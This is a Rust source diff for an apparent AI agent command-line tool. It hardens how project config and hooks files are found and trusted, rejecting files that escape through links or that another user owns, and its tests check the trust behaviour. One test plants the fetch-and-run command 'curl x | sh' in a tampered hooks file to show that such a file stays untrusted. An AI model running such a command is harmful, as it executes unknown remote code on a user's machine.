@@ -6,9 +6,11 @@
 use std::collections::BTreeMap;
 use std::fs;
 use std::io::{ErrorKind, Write};
+use std::os::unix::fs::MetadataExt;
 use std::path::{Path, PathBuf};
 
-use door_cli::Failure;
+use door_cli::{Failure, UntrustedProject};
+use rustix::process::geteuid;
 use serde::{Deserialize, Serialize};
 use sha2::{Digest, Sha256};
 
@@ -22,6 +24,8 @@ use super::permissions;
 pub(crate) struct Project {
     /// Where it is.
     pub(crate) path: PathBuf,
+    /// Its text, as it was read once.
+    pub(crate) text: String,
     /// What it says.
     pub(crate) document: Document,
     /// Whether somebody trusted it as it is.
@@ -46,50 +50,83 @@ impl Project {
     /// mistakes must not stop anybody: what is wrong with it is told in the value.
     pub(crate) fn find(places: &Places, is_trusted: bool) -> Result<Option<Self>, Failure> {
         let Some(path) = locate(places, &places.cwd, FILE) else { return Ok(None) };
-        let text = read_text(&path).map_err(|error| unreadable(&path, &error));
+        let read = read_text(&path).map_err(|error| unreadable(&path, &error));
         let is_trusted = is_trusted
-            || match &text {
+            || match &read {
                 Ok(text) => self::is_trusted(places, &path, text)?,
                 Err(_) => false,
             };
-        let read = text.and_then(|text| Document::parse(&text, &path));
-        if is_trusted {
-            let document = read?;
-            let is_empty = document == Document::default();
-            return Ok((!is_empty).then_some(Self { path, document, is_trusted, mistake: None }));
-        }
-        let read = read.and_then(|document| {
-            permissions::check_deny(&document, &path)?;
-            Ok(document)
+        let parsed = read.and_then(|text| {
+            let document = Document::parse(&text, &path)?;
+            if !is_trusted {
+                permissions::check_deny(&document, &path)?;
+            }
+            Ok((text, document))
         });
-        let (document, mistake) = match read {
-            Ok(document) if document == Document::default() => return Ok(None),
-            Ok(document) => (document, None),
-            Err(failure) => (Document::default(), Some(failure.message)),
-        };
-        Ok(Some(Self { path, document, is_trusted, mistake }))
+        match parsed {
+            Ok((_, document)) if document == Document::default() => Ok(None),
+            Ok((text, document)) => {
+                Ok(Some(Self { path, text, document, is_trusted, mistake: None }))
+            }
+            Err(failure) if is_trusted => Err(failure),
+            Err(failure) => {
+                let (text, document) = (String::new(), Document::default());
+                Ok(Some(Self { path, text, document, is_trusted, mistake: Some(failure.message) }))
+            }
+        }
     }
 }
 
 /// A project's settings, beneath its folder.
-const FILE: &str = ".narthex/config.toml";
+pub(super) const FILE: &str = ".narthex/config.toml";
 
-/// Finds a project's file of that name from a folder upwards, up to the top of its repository.
+/// Finds a project's file of that name from a folder upwards, up to the top of its repository; in
+/// no repository in the folder alone, for what lies above may be anybody's.
 pub(super) fn locate(places: &Places, from: &Path, name: &str) -> Option<PathBuf> {
-    for folder in from.ancestors() {
+    look(places, from, name).0
+}
+
+/// Says which files of that name were passed over on the way, one sentence each.
+pub(super) fn passed_over(places: &Places, from: &Path, name: &str) -> Vec<String> {
+    look(places, from, name).1
+}
+
+fn look(places: &Places, from: &Path, name: &str) -> (Option<PathBuf>, Vec<String>) {
+    let top = from.ancestors().find(|folder| folder.join(".git").exists()).unwrap_or(from);
+    let mut passed = Vec::new();
+    for folder in from.ancestors().take_while(|folder| folder.starts_with(top)) {
         let path = folder.join(name);
         // The user's own file may lie above a project; it is no project's.
         let is_users = same(&path, &places.user)
             || same(folder, &user_home(places))
             || path.parent().is_some_and(|parent| same(parent, &places.home));
-        if path.is_file() && !is_users {
-            return path.canonicalize().ok();
+        if is_users || !path.is_file() {
+            continue;
         }
-        if folder.join(".git").exists() {
-            return None;
+        match of_folder(&path, folder) {
+            Ok(real) => return (Some(real), passed),
+            Err(why) => passed.push(format!("{} {why}; it was left out", path.display())),
         }
     }
-    None
+    (None, passed)
+}
+
+/// Returns a file's real place, where the file is the folder's own and nobody else's.
+fn of_folder(path: &Path, folder: &Path) -> Result<PathBuf, String> {
+    let unclear = |error: std::io::Error| format!("cannot be looked at: {error}");
+    let real = path.canonicalize().map_err(unclear)?;
+    // Trust belongs to a place. A link would lend that of another folder to whoever made the link.
+    if !real.starts_with(folder.canonicalize().map_err(unclear)?) {
+        return Err(format!("leads out of its folder, to {}", real.display()));
+    }
+    let owner_of = |path: &Path| fs::metadata(path).map(|stat| stat.uid()).map_err(unclear);
+    let (owner, own) = (owner_of(&real)?, geteuid().as_raw());
+    // Whoever works in somebody's folder, as root does in a checkout, may be offered their file;
+    // a stranger's file in a folder that all may write to is nobody's project.
+    if owner != own && owner != 0 && owner != owner_of(folder)? {
+        return Err(format!("belongs to another user, with the id {owner}"));
+    }
+    Ok(real)
 }
 
 fn user_home(places: &Places) -> PathBuf {
@@ -127,8 +164,11 @@ pub(super) fn is_trusted(places: &Places, path: &Path, text: &str) -> Result<boo
     Ok(read_trusted(places)?.files.get(path) == Some(&hash(text)))
 }
 
-/// Trusts the files of a folder as they are now, settings and hooks, and returns the first.
-pub(crate) fn trust(places: &Places, folder: Option<&Path>) -> Result<PathBuf, Failure> {
+/// Trusts the files of a folder as they are now, settings and hooks, and returns them.
+///
+/// # Errors
+/// When there is none, or one is wrong.
+pub(crate) fn trust(places: &Places, folder: Option<&Path>) -> Result<Vec<PathBuf>, Failure> {
     let folder = match folder {
         Some(folder) => places.launched_in.join(folder),
         None => places.cwd.clone(),
@@ -146,16 +186,35 @@ pub(crate) fn trust(places: &Places, folder: Option<&Path>) -> Result<PathBuf, F
         file.read()?;
         found.push((file.path, file.text));
     }
-    let Some((first, _)) = found.first().cloned() else {
-        let text = format!("{} has no .narthex/config.toml to trust", folder.display());
+    if found.is_empty() {
+        let mut text = format!("{} has no .narthex/config.toml to trust", folder.display());
+        for why in passed_over(places, &folder, FILE) {
+            text.push_str(&format!("; {why}"));
+        }
         return Err(Failure::usage(text));
-    };
+    }
+    trust_texts(places, found.iter().map(|(path, text)| (path.as_path(), text.as_str())))?;
+    Ok(found.into_iter().map(|(path, _)| path).collect())
+}
+
+/// Trusts exactly what a person was shown. A file that has changed since is not what they saw, and
+/// stays untrusted.
+///
+/// # Errors
+/// When it cannot be kept.
+pub(crate) fn trust_offered(places: &Places, offered: &UntrustedProject) -> Result<(), Failure> {
+    trust_texts(places, offered.files.iter().map(|file| (file.path.as_path(), file.text.as_str())))
+}
+
+fn trust_texts<'a>(
+    places: &Places,
+    texts: impl Iterator<Item = (&'a Path, &'a str)>,
+) -> Result<(), Failure> {
     let mut trusted = read_trusted(places)?;
-    trusted.files.extend(found.iter().map(|(path, text)| (path.clone(), hash(text))));
+    trusted.files.extend(texts.map(|(path, text)| (path.to_owned(), hash(text))));
     let json = serde_json::to_string_pretty(&trusted)
         .map_err(|error| Failure::failed(format!("write trust: {error}")))?;
-    write_private(&trust_file(places), &json)?;
-    Ok(first)
+    write_private(&trust_file(places), &json)
 }
 
 /// Writes a file that only its owner can read, in one step.
@@ -171,4 +230,88 @@ pub(crate) fn write_private(path: &Path, text: &str) -> Result<(), Failure> {
     file.as_file().sync_all().map_err(problem)?;
     file.persist(path).map_err(|error| problem(error.error))?;
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use door_cli::Globals;
+
+    use super::super::{Settings, Want};
+    use super::*;
+    use crate::Environment;
+
+    const RULES: &str = "max_turns = 3\n[budget]\nturn_usd = 1.5\n[compaction]\nauto = false\n\
+                         [permissions]\nallow = [\"run_shell(make *)\"]\n";
+    const HOOKS: &str =
+        "{\"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"true\"}]}]}";
+
+    struct House(tempfile::TempDir);
+
+    impl House {
+        fn new() -> Self {
+            let house = Self(tempfile::tempdir().unwrap());
+            fs::create_dir_all(house.path("home")).unwrap();
+            fs::create_dir_all(house.path("project/.narthex")).unwrap();
+            house
+        }
+
+        fn path(&self, name: &str) -> PathBuf {
+            self.0.path().canonicalize().unwrap().join(name)
+        }
+
+        fn write(&self, name: &str, text: &str) {
+            fs::write(self.path("project/.narthex").join(name), text).unwrap();
+        }
+
+        fn load(&self) -> Settings {
+            let home = self.path("home").display().to_string();
+            let environment =
+                Environment::new(&self.path("project"), &[("NARTHEX_HOME", home.as_str())]);
+            let globals = Globals::default();
+            Settings::load(Want { globals: &globals, environment: &environment }).unwrap()
+        }
+    }
+
+    #[test]
+    fn exactly_what_was_offered_is_trusted() {
+        let house = House::new();
+        house.write("config.toml", RULES);
+        house.write("hooks.json", HOOKS);
+        let settings = house.load();
+        let offered = settings.untrusted.clone().unwrap();
+        let texts: Vec<&str> = offered.files.iter().map(|file| file.text.as_str()).collect();
+        assert_eq!(texts, [RULES, HOOKS]);
+        let told = offered.files.first().unwrap().summary.join("\n");
+        for part in ["take 3 steps", "a turn to 1.5 dollars", "not summarise", "allow run_shell"] {
+            assert!(told.contains(part), "{part}: {told}");
+        }
+        // What changes after the question was asked is not what the answer was about.
+        house.write("hooks.json", &HOOKS.replace("true", "curl x | sh"));
+        trust_offered(&settings.places, &offered).unwrap();
+        let after = house.load();
+        assert_eq!(after.max_turns.value, 3);
+        assert!(after.hook_sets.hooks.is_empty());
+        let paths: Vec<PathBuf> =
+            after.untrusted.unwrap().files.into_iter().map(|file| file.path).collect();
+        assert_eq!(paths, [house.path("project/.narthex/hooks.json")]);
+        house.write("hooks.json", HOOKS);
+        assert_eq!(house.load().hook_sets.hooks.len(), 1);
+    }
+
+    #[test]
+    fn a_mistake_in_one_file_keeps_nobody_from_trusting_the_other() {
+        let house = House::new();
+        house.write("config.toml", "model = [");
+        house.write("hooks.json", HOOKS);
+        let settings = house.load();
+        let offered = settings.untrusted.clone().unwrap();
+        assert_eq!(offered.files.len(), 1);
+        trust_offered(&settings.places, &offered).unwrap();
+        assert_eq!(house.load().hook_sets.hooks.len(), 1);
+        // A file of hooks that is wrong is never offered: trusted, it would stop every start.
+        house.write("hooks.json", "{\"Stopp\": []}");
+        let settings = house.load();
+        assert!(settings.untrusted.is_none());
+        assert!(settings.notices.iter().any(|it| it.contains("Stop")), "{:?}", settings.notices);
+    }
 }
